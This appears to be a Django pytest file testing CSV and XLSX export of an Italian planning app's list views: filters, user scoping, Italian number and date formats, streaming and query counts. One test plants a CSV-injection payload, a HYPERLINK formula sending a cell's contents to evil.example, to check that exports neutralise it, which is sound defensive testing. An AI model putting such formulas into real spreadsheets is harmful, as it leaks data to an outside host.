"""Every list exports what it shows (issue #20): `?formato=csv|xlsx` on any list of the shared
framework (programma.activities.lists.ListaMixin) gives every row of the user's scope that the
list's filters keep, in the list's columns and order, with the edition, the filters and the date
written above the table; Italian Excel's CSV (semicolons, decimal comma, BOM) or a formatted sheet;
streamed; safe from CSV injection; at a query count that does not grow with the rows."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from eventi.models import Tema
from programma.importazione.models import Importazione
from programma.models import DocumentoNazionale, ProgettoStrategico
from regioni.models import Regione
from tests import factories

pytestmark = pytest.mark.django_db


def leggi_csv(risposta: Any) -> tuple[list[list[str]], list[str], list[list[str]]]:
    """(lines above the table, header, rows) of a streamed CSV export."""
    assert risposta.streaming, "the CSV is streamed"
    corpo = b"".join(risposta.streaming_content)
    assert corpo.startswith("\ufeff".encode()), "a BOM: Italian Excel reads UTF-8"
    righe = list(csv.reader(io.StringIO(corpo.decode("utf-8-sig")), delimiter=";"))
    vuota = righe.index([])
    return righe[:vuota], righe[vuota + 1], righe[vuota + 2 :]


def leggi_xlsx(risposta: Any) -> tuple[Any, list[list[Any]], list[Any], list[list[Any]]]:
    """(sheet, lines above the table, header, rows) of an XLSX export."""
    assert risposta.streaming, "the XLSX is streamed from its file"
    foglio = load_workbook(io.BytesIO(b"".join(risposta.streaming_content))).worksheets[0]
    righe = [list(r) for r in foglio.iter_rows(values_only=True)]
    inizio = int(foglio.freeze_panes[1:]) - 1  # the header: the last row frozen in view
    premessa = [[c for c in r if c is not None] for r in righe[: inizio - 1]]
    return foglio, premessa, righe[inizio - 1], righe[inizio:]


# --- one spec per list: whose rows, which filter, what must and must not be in the file ------------


@dataclass(frozen=True)
class Lista:
    nome: str  # URL name
    utente: str  # "operatore" (region Lombardia) or "amministratore"
    filtri: dict[str, str]
    crea: Callable[[Any, Any], tuple[set[str], set[str]]]  # (progetto, altro_progetto) -> (expected, excluded) first cells
    colonna: int = 1  # the column holding the texts compared (0-based)


def _tavoli(progetto: Any, altro: Any) -> tuple[set[str], set[str]]:
    factories.TavoloConfrontoFactory(progetto=progetto, titolo="Tavolo svolto A")
    factories.TavoloConfrontoFactory(progetto=progetto, titolo="Tavolo annullato A", stato="annullato")
    factories.TavoloConfrontoFactory(progetto=altro, titolo="Tavolo svolto B")
    return {"Tavolo svolto A"}, {"Tavolo annullato A", "Tavolo svolto B"}


def _eventi(progetto: Any, altro: Any) -> tuple[set[str], set[str]]:
    factories.EventoFactory(progetto=progetto, titolo="Incontro A")
    factories.EventoFactory(progetto=progetto, titolo="Seminario A", tipo="seminario", fase=None)
    factories.EventoFactory(progetto=altro, titolo="Incontro B")
    return {"Incontro A"}, {"Seminario A", "Incontro B"}


def _report(progetto: Any, altro: Any) -> tuple[set[str], set[str]]:
    factories.ReportFactory(progetto=progetto, titolo="Analisi A")
    factories.ReportFactory(progetto=progetto, titolo="Presentazione A", tipo="presentazione")
    factories.ReportFactory(progetto=altro, titolo="Analisi B")
    return {"Analisi A"}, {"Presentazione A", "Analisi B"}


def _opere(progetto: Any, altro: Any) -> tuple[set[str], set[str]]:
    factories.OperaPrioritariaFactory(regione=progetto.regione, progetto=progetto, codice="A-STRADA")
    factories.OperaPrioritariaFactory(regione=progetto.regione, progetto=progetto, codice="A-FERROVIA", modalita="ferroviaria")
    factories.OperaPrioritariaFactory(regione=altro.regione, progetto=altro, codice="B-STRADA")
    return {"A-STRADA"}, {"A-FERROVIA", "B-STRADA"}


def _fasi(progetto: Any, altro: Any) -> tuple[set[str], set[str]]:
    # Region and phase: only Lombardia's second phase.
    return {"Lombardia|2"}, {"Lombardia|1", "Lombardia|3", "Sicilia|2"}


def _progetti(progetto: Any, altro: Any) -> tuple[set[str], set[str]]:
    for p in (progetto, altro):
        ProgettoStrategico.objects.create(progetto=p, titolo="Libro Bianco", stato="bozza")
    return {"Lombardia"}, {"Sicilia"}


def _documenti(progetto: Any, altro: Any) -> tuple[set[str], set[str]]:
    for titolo, tipo in (("Analisi nazionale", "analisi_domanda_offerta"), ("Presentazione nazionale", "presentazione")):
        DocumentoNazionale.objects.create(programma=progetto.programma, tipo=tipo, titolo=titolo, data=dt.date(2025, 2, 1))
    return {"Analisi nazionale"}, {"Presentazione nazionale"}


def _importazioni(progetto: Any, altro: Any) -> tuple[set[str], set[str]]:
    Importazione.objects.create(nome_file="buona.csv", stato=Importazione.Stato.COMPLETATA, righe_create=3)
    Importazione.objects.create(nome_file="errata.csv", stato=Importazione.Stato.RIFIUTATA, righe_errate=2)
    return {"buona.csv"}, {"errata.csv"}


LISTE = [
    Lista("tavoli:lista", "operatore", {"stato": "svolto"}, _tavoli),
    Lista("eventi:lista", "operatore", {"tipo": "incontro_bul_5g"}, _eventi),
    Lista("programma:report_lista", "operatore", {"tipo": "report_analisi"}, _report),
    Lista("programma:opere", "operatore", {"modalita": "stradale"}, _opere, colonna=0),
    Lista("programma:fasi", "operatore", {"numero": "2"}, _fasi, colonna=0),
    Lista("programma:progetti", "operatore", {"strategico": "bozza"}, _progetti, colonna=0),
    Lista("programma:documenti_nazionali", "operatore", {"tipo": "analisi_domanda_offerta"}, _documenti),
    Lista("importazione:storico", "amministratore", {"stato": "completata"}, _importazioni),
]


def _chiavi(lista: Lista, righe: list[list[Any]]) -> set[str]:
    if lista.nome == "programma:fasi":
        return {f"{r[0]}|{str(r[1])[0]}" for r in righe}
    return {str(r[lista.colonna]) for r in righe}


@pytest.fixture
def utenti(operatore, amministratore) -> dict[str, Any]:
    return {"operatore": operatore, "amministratore": amministratore}


@pytest.mark.parametrize("formato", ["csv", "xlsx"])
@pytest.mark.parametrize("lista", LISTE, ids=[lista.nome for lista in LISTE])
def test_it_exports_only_the_users_rows_with_the_lists_filters(lista, formato, client, utenti, progetto, altro_progetto):
    attese, escluse = lista.crea(progetto, altro_progetto)
    client.force_login(utenti[lista.utente])
    risposta = client.get(reverse(lista.nome), {**lista.filtri, "formato": formato})
    assert risposta.status_code == 200
    if formato == "csv":
        premessa, intestazione, righe = leggi_csv(risposta)
    else:
        _foglio, premessa, intestazione, righe = leggi_xlsx(risposta)
    chiavi = _chiavi(lista, righe)
    assert chiavi == attese, f"{lista.nome}: {chiavi}"
    assert not chiavi & escluse
    # The file says which filters made it: the page's own label and value.
    filtri = next(r[1] for r in premessa if r[0] == "Filtri")
    assert filtri != "nessuno" and len(filtri.split("; ")) == len(lista.filtri)
    # The header is the page's: the same columns, in the same order.
    pagina = client.get(reverse(lista.nome), lista.filtri)
    assert [str(c) for c in intestazione] == [str(c.etichetta) for c in pagina.context["colonne"]]


def test_the_csv_is_italian_excels(client_operatore, progetto, altro_progetto):
    factories.OperaPrioritariaFactory(regione=progetto.regione, progetto=progetto, codice="A-1", costo_stimato="1234567.89", finanziamento_pnrr=True)
    premessa, intestazione, righe = leggi_csv(client_operatore.get(reverse("programma:opere"), {"formato": "csv", "livello_priorita": "1"}))
    riga = dict(zip(intestazione, righe[0]))
    assert riga["Costo stimato"] == "1234567,89" and riga["PNRR"] == "sì" and riga["Stato"] == "In progettazione"
    assert premessa[0] == ["Opere prioritarie"]
    assert ["Edizione", progetto.programma.nome] in premessa and ["Regione", "Lombardia"] in premessa
    assert ["Filtri", "Priorità: 1 — massima"] in premessa or next(r for r in premessa if r[0] == "Filtri")[1].startswith("Priorità: ")
    estratto = next(r for r in premessa if r[0] == "Estratto il")[1]
    assert dt.datetime.strptime(estratto, "%d/%m/%Y %H:%M")


def test_dates_are_written_the_italian_way(client_operatore, progetto):
    factories.TavoloConfrontoFactory(progetto=progetto, titolo="Tavolo", data=dt.date(2025, 5, 20))
    _premessa, intestazione, righe = leggi_csv(client_operatore.get(reverse("tavoli:lista"), {"formato": "csv"}))
    assert dict(zip(intestazione, righe[0]))["Data"] == "20/05/2025"
    _foglio, _premessa, intestazione, righe = leggi_xlsx(client_operatore.get(reverse("tavoli:lista"), {"formato": "xlsx"}))
    assert dict(zip(intestazione, righe[0]))["Data"] == dt.datetime(2025, 5, 20)


def test_the_xlsx_is_a_formatted_sheet(client_coordinatore, progetto, altro_progetto):
    factories.OperaPrioritariaFactory(regione=progetto.regione, progetto=progetto, codice="A-1", costo_stimato="1500000.50")
    foglio, premessa, intestazione, righe = leggi_xlsx(client_coordinatore.get(reverse("programma:opere"), {"formato": "xlsx"}))
    riga_intestazione = int(foglio.freeze_panes[1:]) - 1
    assert all(c.font.bold for c in foglio[riga_intestazione] if c.value)
    costo = foglio.cell(row=riga_intestazione + 1, column=intestazione.index("Costo stimato") + 1)
    assert costo.value == 1500000.5 and costo.number_format == '#,##0.00 "€"'
    assert "Regione" in intestazione  # a national role's list shows the region column, and so does its file
    assert ["Filtri", "nessuno"] in premessa


def test_a_sort_is_followed_and_said(client_operatore, progetto):
    for titolo, data in (("B", dt.date(2025, 3, 1)), ("A", dt.date(2025, 4, 1))):
        factories.TavoloConfrontoFactory(progetto=progetto, titolo=titolo, data=data)
    premessa, _intestazione, righe = leggi_csv(client_operatore.get(reverse("tavoli:lista"), {"formato": "csv", "ordina": "titolo"}))
    assert [r[1] for r in righe] == ["A", "B"]
    assert ["Ordinamento", "Titolo (crescente)"] in premessa


@pytest.mark.parametrize("formato", ["csv", "xlsx"])
def test_it_is_safe_from_csv_injection(client_operatore, progetto, formato):
    pericoloso = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    factories.TavoloConfrontoFactory(progetto=progetto, titolo=pericoloso, luogo="@SUM(1+1)")
    risposta = client_operatore.get(reverse("tavoli:lista"), {"formato": formato, "q": "HYPERLINK"})
    if formato == "csv":
        _premessa, intestazione, righe = leggi_csv(risposta)
    else:
        foglio, _premessa, intestazione, righe = leggi_xlsx(risposta)
        assert all(c.data_type != "f" for riga in foglio.iter_rows() for c in riga)
    riga = dict(zip(intestazione, righe[0]))
    assert riga["Titolo"] == "'" + pericoloso and riga["Luogo"].startswith("'@SUM")


def test_the_export_takes_every_row_not_a_page(client_operatore, progetto):
    factories.TavoloConfrontoFactory.create_batch(30, progetto=progetto)
    _premessa, _intestazione, righe = leggi_csv(client_operatore.get(reverse("tavoli:lista"), {"formato": "csv", "page": "2"}))
    assert len(righe) == 30


def test_an_unknown_format_is_said_and_the_list_shown(client_operatore, progetto):
    risposta = client_operatore.get(reverse("tavoli:lista"), {"formato": "pdf"})
    assert risposta.status_code == 200 and not risposta.streaming
    assert [str(m) for m in risposta.context["messages"]] == ["Formato di esportazione non disponibile: scegli CSV oppure XLSX."]


def test_the_page_links_its_export_with_its_filters(client_operatore, progetto):
    html = client_operatore.get(reverse("tavoli:lista"), {"stato": "svolto", "page": "1"}).content.decode()
    assert "?stato=svolto&amp;formato=csv" in html and "?stato=svolto&amp;formato=xlsx" in html


def test_anonymous_users_go_to_the_login_page(client):
    risposta = client.get(reverse("tavoli:lista"), {"formato": "csv"})
    assert risposta.status_code == 302 and risposta.url.startswith(reverse("login"))


# --- cost: the queries do not grow with the rows ---------------------------------------------------

RIGHE = {
    "tavoli:lista": lambda p, n: factories.TavoloConfrontoFactory.create_batch(n, progetto=p),
    "eventi:lista": lambda p, n: [factories.EventoFactory(progetto=p).temi.set(Tema.objects.all()[:2]) for _i in range(n)],
    "programma:report_lista": lambda p, n: factories.ReportFactory.create_batch(n, progetto=p),
    "programma:opere": lambda p, n: [
        factories.OperaPrioritariaFactory(regione=p.regione, progetto=p).province.set(p.regione.province.all()[:2]) for _i in range(n)
    ],
    "programma:fasi": lambda p, n: [
        factories.ProgettoRegionaleFactory(programma=p.programma, regione=r) for r in _senza_progetto(p.programma, n)
    ],
    "programma:progetti": lambda p, n: [
        factories.ProgettoRegionaleFactory(programma=p.programma, regione=r) for r in _senza_progetto(p.programma, n)
    ],
    "programma:documenti_nazionali": lambda p, n: [
        DocumentoNazionale.objects.create(programma=p.programma, tipo="presentazione", titolo=f"D{i}", data=dt.date(2025, 1, 1)) for i in range(n)
    ],
    "importazione:storico": lambda p, n: [Importazione.objects.create(nome_file=f"{i}.csv") for i in range(n)],
}


def _senza_progetto(programma: Any, n: int) -> list[Regione]:
    return list(Regione.objects.exclude(progetti__programma=programma)[:n])


def _query_esportazione(client: Any, nome: str) -> int:
    with CaptureQueriesContext(connection) as catturate:
        risposta = client.get(reverse(nome), {"formato": "csv"})
        b"".join(risposta.streaming_content)
    return len(catturate)


@pytest.mark.parametrize("nome", sorted(RIGHE))
def test_the_query_count_does_not_grow_with_the_rows(nome, client, amministratore, progetto):
    """Measured as an Amministratore (every list open to them, every region's rows): 2 rows, then 12."""
    client.force_login(amministratore)
    _query_esportazione(client, nome)  # the session's first request loads what the next ones find cached
    RIGHE[nome](progetto, 2)
    poche = _query_esportazione(client, nome)
    RIGHE[nome](progetto, 10)
    assert _query_esportazione(client, nome) == poche
    assert poche <= 12
